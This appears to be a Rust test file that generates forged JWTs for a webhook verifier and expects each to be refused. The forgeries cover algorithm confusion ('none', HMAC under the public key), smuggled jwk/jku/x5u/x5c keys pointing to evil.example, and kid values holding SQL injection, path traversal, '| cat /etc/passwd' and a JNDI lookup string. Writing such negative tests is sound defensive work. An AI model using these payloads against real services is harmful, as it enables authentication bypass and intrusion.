//! JWTs signed by somebody else, or not at all, or otherwise than RS256.

use serde_json::json;

use crate::forge::{Signing, app_key, encode, jwt, other_key};
use crate::webhook_attacks::{Vector, claims, refused};

/// Every algorithm name that a header could ask for.
const ALGORITHMS: [&str; 22] = [
    "none",
    "None",
    "NONE",
    "nOnE",
    "",
    "HS256",
    "HS384",
    "HS512",
    "RS384",
    "RS512",
    "PS256",
    "PS384",
    "PS512",
    "ES256",
    "ES384",
    "EdDSA",
    "rs256",
    "Rs256",
    "RS256 ",
    "RS-256",
    "SHA256withRSA",
    "RS256\0",
];

fn header(alg: &str) -> String {
    json!({"alg": alg, "typ": "JWT"}).to_string()
}

/// The header lies or tells the truth; the signature is nothing, an HMAC under public text, or another RSA scheme.
fn other_algorithms() -> Vec<Vector> {
    let key = app_key();
    let schemes = [
        ("no signature", Signing::Nothing),
        ("HMAC under the public PEM", Signing::Hs256(key.pem.as_bytes())),
        ("HMAC under the public DER", Signing::Hs256(&key.der)),
        ("HMAC under nothing", Signing::Hs256(b"")),
        ("RS384", Signing::Rs384(&key.pair)),
        ("RS512", Signing::Rs512(&key.pair)),
        ("PS256", Signing::Ps256(&key.pair)),
        ("PS512", Signing::Ps512(&key.pair)),
        ("ES256", Signing::Es256),
    ];
    let mut vectors = Vec::new();
    for (name, signing) in schemes {
        for alg in ["RS256", "none", "HS256", "RS384", "RS512", "PS256", "PS512", "ES256"] {
            vectors
                .push(refused(format!("{name}, header says {alg}"), jwt(&header(alg), &claims(), signing)));
        }
    }
    // Genuinely signed, RS256, but the header names something else.
    for alg in ALGORITHMS {
        let token = jwt(&header(alg), &claims(), Signing::Rs256(&key.pair));
        vectors.push(refused(format!("RS256, header says {alg:?}"), token));
    }
    vectors
}

/// The header brings or names the key to verify with.
fn smuggled_keys() -> Vec<Vector> {
    let attacker = other_key();
    let jwk =
        json!({"kty": "RSA", "alg": "RS256", "use": "sig", "n": encode(&attacker.der[33..289]), "e": "AQAB"});
    let x5c = [base64::Engine::encode(&base64::engine::general_purpose::STANDARD, &attacker.der)];
    let headers = [
        ("nothing", json!({})),
        ("jwk", json!({"jwk": jwk})),
        ("jwk as text", json!({"jwk": jwk.to_string()})),
        ("jwks", json!({"jwks": {"keys": [jwk]}})),
        ("jku", json!({"jku": "https://evil.example/jwks.json"})),
        ("jku on this machine", json!({"jku": "http://127.0.0.1:1/jwks.json"})),
        ("jku with credentials", json!({"jku": "https://www.wix.com@evil.example/"})),
        ("x5u", json!({"x5u": "https://evil.example/cert.pem"})),
        ("x5u of a file", json!({"x5u": "file:///etc/ssl/cert.pem"})),
        ("x5c", json!({"x5c": x5c})),
        ("x5t", json!({"x5t": "AAAA", "x5t#S256": "AAAA"})),
        ("pem", json!({"pem": attacker.pem, "key": attacker.pem, "publicKey": attacker.pem})),
        (
            "all of them",
            json!({"jwk": jwk, "jku": "https://e.example", "x5u": "https://e.example", "x5c": x5c, "kid": "0"}),
        ),
    ];
    let kids = [
        "0",
        "",
        "../../../../dev/null",
        "/dev/null",
        "file:///dev/null",
        "' OR '1'='1",
        "x' UNION SELECT 'key'--",
        "| cat /etc/passwd",
        "https://evil.example/key",
        "\0",
        "%00",
        "${jndi:ldap://evil.example/a}",
    ];
    let with = |mut header: serde_json::Value| {
        header["alg"] = json!("RS256");
        jwt(&header.to_string(), &claims(), Signing::Rs256(&attacker.pair))
    };
    let smuggled =
        headers.into_iter().map(|(name, header)| refused(format!("other app's key, {name}"), with(header)));
    let named =
        kids.iter().map(|kid| refused(format!("other app's key, kid {kid:?}"), with(json!({"kid": kid}))));
    let kid_as_hmac = kids.iter().map(|kid| {
        let header = json!({"alg": "HS256", "kid": kid}).to_string();
        refused(
            format!("HMAC under the empty file, kid {kid:?}"),
            jwt(&header, &claims(), Signing::Hs256(b"")),
        )
    });
    smuggled.chain(named).chain(kid_as_hmac).collect()
}

pub(crate) fn vectors() -> Vec<Vector> {
    [other_algorithms(), smuggled_keys()].into_iter().flatten().collect()
}
